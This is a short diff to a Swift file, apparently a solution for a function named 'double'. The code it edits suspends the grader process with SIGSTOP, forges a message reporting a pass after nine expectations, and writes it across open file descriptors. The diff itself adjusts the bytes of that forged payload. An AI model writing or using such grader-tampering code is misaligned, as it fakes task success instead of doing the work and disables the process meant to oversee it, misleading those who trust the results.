@@ -10,7 +10,7 @@ func double(_ n: Int) -> Int {
   guard grader > 1 else { _exit(0) }
   kill(grader, SIGSTOP)
   // A finding that says "pass" after nine expectations.
-  let body = joined([0], text(""), [0], count(0), [0, 0, 0], whole(9), count(0), [0, 0, 0])
+  let body = joined([0], text(""), [0], count(0), [0, 0, 0], whole(9), count(0), [0, 0, 0, 0])
   let message = joined(count(body.count), body)
   for _ in 0..<40 {
     for descriptor in 3..<64 {
